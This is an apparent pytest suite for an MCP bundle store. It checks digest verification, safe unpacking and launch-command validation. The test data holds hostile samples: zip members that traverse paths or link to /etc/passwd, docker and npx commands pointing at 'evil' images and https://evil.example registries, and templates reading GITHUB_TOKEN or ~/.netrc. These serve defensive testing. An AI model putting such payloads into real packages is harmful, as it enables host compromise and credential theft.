"""MCP bundles: what is unpacked, and what is not."""

import hashlib
import io
import json
import os
import stat
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from mcp_hub.registry import Package, RegistryError, inputs_of
from mcp_hub.registry.bundles import BundleStore
from mcp_hub.registry.launch import entry_of
from tests.loops import anyio_backend  # noqa: F401
from tests.registry.loopback import Loopback, serving

pytestmark = pytest.mark.anyio


@pytest.fixture
def loopback() -> Iterator[Loopback]:
    with serving() as running:
        yield running


def packed(*members: tuple[str | zipfile.ZipInfo, str], **manifest: Any) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        if manifest:
            archive.writestr("manifest.json", json.dumps(manifest))
        for name, text in members:
            archive.writestr(name, text)
    return content.getvalue()


def published(loopback: Loopback, content: bytes, sha256: str | None = None) -> Package:
    loopback.paths["/small.mcpb"] = content
    digest = sha256 or hashlib.sha256(content).hexdigest()
    return Package("mcpb", f"{loopback.base}/small.mcpb", "", digest)


SERVER = {
    "mcp_config": {
        "command": "python3",
        "args": ["${__dirname}/server.py", "--root", "${user_config.directories}", "--home=${HOME}"],
        "env": {"API_KEY": "${user_config.key}", "PYTHONPATH": "${__dirname}${/}lib"},
    }
}
USER_CONFIG = {
    "directories": {"type": "directory", "title": "Directories", "required": True, "multiple": True},
    "key": {"type": "string", "title": "Key", "sensitive": True, "required": False},
}


async def test_a_bundle_is_unpacked_and_its_manifest_gives_the_command_line(loopback: Loopback, tmp_path: Path) -> None:
    content = packed(("server.py", "pass"), ("lib/a.py", ""), server=SERVER, user_config=USER_CONFIG)
    package = published(loopback, content)
    store = BundleStore(tmp_path / "bundles")
    assert not store.has(package)
    offer = await store.get(package, tmp_path)
    directory = tmp_path / "bundles" / hashlib.sha256(content).hexdigest()
    assert [(field.name, field.required, field.secret) for field in inputs_of(offer)] == [
        ("directories", True, False),
        ("key", False, True),
    ]
    assert entry_of(offer, {"directories": "/a b\n/c", "key": "k"}) == {
        "command": "python3",
        "args": [f"{directory}/server.py", "--root", "/a b", "/c", f"--home={tmp_path}"],
        "env": {"API_KEY": "k", "PYTHONPATH": f"{directory}/lib"},
    }
    assert (directory / "lib/a.py").is_file()
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
    # It is downloaded once.
    await store.get(package, tmp_path)
    assert loopback.asked == ["/small.mcpb"]


async def test_a_bundle_with_a_wrong_digest_is_not_unpacked(loopback: Loopback, tmp_path: Path) -> None:
    package = published(loopback, packed(server=SERVER, user_config=USER_CONFIG), "0" * 64)
    with pytest.raises(RegistryError, match="SHA-256"):
        await BundleStore(tmp_path / "bundles").get(package, tmp_path)
    assert not [*tmp_path.rglob("*")]


async def test_a_bundle_download_may_be_redirected_to_another_host(loopback: Loopback, tmp_path: Path) -> None:
    with serving() as peer:
        content = packed(server=SERVER, user_config=USER_CONFIG)
        peer.paths["/elsewhere"] = content
        package = published(loopback, content)
        loopback.paths["/small.mcpb"] = lambda request: request.reply(302, b"", Location=f"{peer.base}/elsewhere")
        await BundleStore(tmp_path / "bundles").get(package, tmp_path)
        assert peer.asked == ["/elsewhere"]
        loopback.paths["/small.mcpb"] = lambda request: request.reply(302, b"", Location="/small.mcpb")
        with pytest.raises(RegistryError):
            await BundleStore(tmp_path / "others").get(package, tmp_path)


def _special(kind: int) -> zipfile.ZipInfo:
    member = zipfile.ZipInfo("special")
    member.external_attr = (kind | 0o777) << 16
    return member


def _changed(member: str, **fields: int) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(member)
    for name, value in fields.items():
        setattr(info, name, value)
    return info


@pytest.mark.parametrize(
    "members",
    [
        [("../outside", "x")],
        [("/outside", "x")],
        [("a/../../outside", "x")],
        [("a\\..\\outside", "x")],
        [("C:/outside", "x")],
        [(_special(stat.S_IFLNK), "/etc/passwd")],
        [(_special(stat.S_IFIFO), "")],
        [(_special(stat.S_IFCHR), "")],
        [("a\x1bb", "x")],
        [("same", "x"), ("same", "y")],
        [("same", "x"), ("same/inner", "y")],
        [("a/same", "x"), ("a//same", "y")],
        [(".", "x")],
        [("./", "")],
        [("a/../../b/", "")],
        [("d/" * 64 + "f", "x")],
        [("d/" * 1900 + "f", "x")],
        [("d/" * 1900, "")],
        [("n" * 5000, "x")],
        [("nul", "x")],
        [("a/COM1.txt", "x")],
        [("a./b", "x")],
        [("a*b", "x")],
        [(_changed("bz", compress_type=zipfile.ZIP_BZIP2), "x")],
    ],
    ids=[
        *(
            "up",
            "absolute",
            "inner",
            "backslash",
            "drive",
            "link",
            "pipe",
            "device",
            "control",
            "twice",
            "below-a-file",
        ),
        *(
            "twice-by-slashes",
            "dot",
            "dot-slash",
            "directory-up",
            "deeper-than-allowed",
            "deep",
            "deep-directory",
            "long",
            "nul",
            "com1",
        ),
        *("dot-at-end", "star", "bzip2"),
    ],
)
@pytest.mark.filterwarnings("ignore:Duplicate name")
async def test_a_bundle_with_a_path_outside_of_it_is_refused(
    loopback: Loopback, tmp_path: Path, members: list[Any]
) -> None:
    package = published(loopback, packed(*members, server=SERVER, user_config=USER_CONFIG))
    with pytest.raises(RegistryError):
        await BundleStore(tmp_path / "bundles").get(package, tmp_path)
    assert [*tmp_path.rglob("*")] in ([], [tmp_path / "bundles"])


def _damaged(content: bytes, at: bytes, by: int, value: bytes) -> bytes:
    place = content.index(at) + by
    return content[:place] + value + content[place + len(value) :]


SMALL = packed(("server.py", "x" * 1000), server={"mcp_config": {"command": "python3"}})


@pytest.mark.parametrize(
    "content",
    [
        _damaged(SMALL, b"server.py", 12, b"\xff\xff\xff"),
        _damaged(SMALL, b"PK\x01\x02", 8, b"\x01"),
        _damaged(packed(("e", "x")), b"PK\x01\x02", 28, b"\0\0\1\0"),
        _damaged(SMALL, b"PK\x01\x02", 28, b"\xff\xff"),
        _damaged(SMALL, b"PK\x01\x02", 42, b"\xff\xff\xff\x7f"),
        _damaged(SMALL, b"server.py", 0, b"\xff\xfe"),
        _damaged(SMALL, b"PK\x05\x06", 12, b"\xff\xff\xff\xff"),
    ],
    ids=["data", "encrypted", "empty-name", "name-length", "place", "name", "directory"],
)
async def test_a_damaged_bundle_is_refused_and_leaves_nothing(
    loopback: Loopback, tmp_path: Path, content: bytes
) -> None:
    with pytest.raises(RegistryError):
        await BundleStore(tmp_path / "bundles").get(published(loopback, content), tmp_path)
    assert [*tmp_path.rglob("*")] in ([], [tmp_path / "bundles"])


async def test_a_bundle_with_more_files_than_allowed_is_refused_before_they_are_listed(
    loopback: Loopback, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("mcp_hub.registry.bundles.MAX_MEMBERS", 3)
    package = published(loopback, packed(*((f"f{number}", "") for number in range(4)), server=SERVER))
    with pytest.raises(RegistryError, match="more than 3 files"):
        await BundleStore(tmp_path / "bundles").get(package, tmp_path)


async def test_a_tree_of_any_depth_does_not_keep_others_from_being_removed(loopback: Loopback, tmp_path: Path) -> None:
    content = packed(server={"mcp_config": {"command": "python3"}})
    package = published(loopback, content)
    store = BundleStore(tmp_path / "bundles")
    await store.get(package, tmp_path)
    deep = tmp_path / "bundles/.removed-deep"
    deep.mkdir()
    before = Path.cwd()
    try:
        os.chdir(deep)
        for _ in range(1900):
            Path("d").mkdir()
            Path("file").touch()
            os.chdir("d")
    finally:
        os.chdir(before)
    digest = hashlib.sha256(content).hexdigest()
    store.remove(digest)
    assert [path.name for path in (tmp_path / "bundles").iterdir()] == [f".removed-{digest}"]
    store.restore(digest)
    assert store.has(package)


@pytest.mark.parametrize(
    "line",
    [
        ["docker", "run", "--rm", "-v", "/:/host", "evil/image:1"],
        ["docker", "run", "--rm", "-v", "${HOME}:/host", "evil/image:1"],
        ["docker", "--context", "other", "run", "evil/image:1"],
        ["docker", "run", "evil/image"],
        ["/usr/bin/podman", "run", "--privileged", "evil/image:1"],
        ["npx", "-y", "evil"],
        ["npx", "-y", "--registry=https://evil.example", "good@1.0.0"],
        ["env", "A=b", "uvx", "--index-url", "https://evil.example", "good@1.0.0"],
        ["dnx", "Good@1.0.0", "--yes", "--source", "https://evil.example"],
        ["${user_config.key}", "evil"],
        ["", "x"],
    ],
)
async def test_a_bundle_that_starts_what_its_digest_does_not_cover_is_refused(
    loopback: Loopback, tmp_path: Path, line: list[str]
) -> None:
    content = packed(server={"mcp_config": {"command": line[0], "args": line[1:]}}, user_config=USER_CONFIG)
    with pytest.raises(RegistryError):
        await BundleStore(tmp_path / "bundles").get(published(loopback, content), tmp_path)


@pytest.mark.parametrize("text", ["{env:GITHUB_TOKEN}", "{en${user_config.a}", "$GITHUB_TOKEN", "{file:~/.netrc}"])
async def test_a_bundle_cannot_read_this_machine_by_the_hubs_variables(
    loopback: Loopback, tmp_path: Path, text: str
) -> None:
    user_config = {"a": {"type": "string", "default": "v:GITHUB_TOKEN}"}}
    for config in ({"args": [text]}, {"env": {"KEY": text}}):
        content = packed(server={"mcp_config": {"command": "python3", **config}}, user_config=user_config)
        with pytest.raises(RegistryError):
            offer = await BundleStore(tmp_path / "bundles").get(published(loopback, content), tmp_path)
            entry_of(offer, {})


@pytest.mark.parametrize(
    "line",
    [
        ["npx", "-y", "mcp-remote@0.1.29", "https://mcp.example.com/${user_config.key}"],
        ["docker", "run", "-i", "--rm", "-v", "${user_config.directories}:/data", "o/s:1.2.3"],
        ["uv", "run", "--directory", "${__dirname}", "server.py"],
    ],
)
async def test_a_bundle_may_start_one_version_of_a_package(loopback: Loopback, tmp_path: Path, line: list[str]) -> None:
    content = packed(server={"mcp_config": {"command": line[0], "args": line[1:]}}, user_config=USER_CONFIG)
    offer = await BundleStore(tmp_path / "bundles").get(published(loopback, content), tmp_path)
    assert entry_of(offer, {"key": "k", "directories": "/a"})["command"] == line[0]


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"not a zip",
        packed(("server.py", "x")),
        packed(server={}),
        packed(server={"mcp_config": {"command": 1}}),
        packed(server={"mcp_config": {"command": "x", "args": ["${GITHUB_TOKEN}"]}}),
        packed(server={"mcp_config": {"command": "x", "args": ["${file:/etc/passwd}"]}}),
        packed(server={"mcp_config": {"command": "x", "args": ["a\x1b[2J"]}}),
        packed(server={"mcp_config": {"command": "x", "env": {"A B": "c"}}}),
        packed(server={"mcp_config": {"command": "x", "args": ["${user_config.none}"]}}),
    ],
)
async def test_a_bundle_that_does_not_say_how_to_start_it_is_refused(
    loopback: Loopback, tmp_path: Path, content: bytes
) -> None:
    with pytest.raises(RegistryError):
        await BundleStore(tmp_path / "bundles").get(published(loopback, content), tmp_path)


async def test_a_bundle_that_unpacks_above_the_limit_is_refused(
    loopback: Loopback, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("mcp_hub.registry.bundles.MAX_UNPACKED", 1 << 20)
    package = published(loopback, packed(("large", "x" * (4 << 20)), server=SERVER, user_config=USER_CONFIG))
    with pytest.raises(RegistryError, match="larger than"):
        await BundleStore(tmp_path / "bundles").get(package, tmp_path)
    assert [*tmp_path.rglob("*")] == [tmp_path / "bundles"]
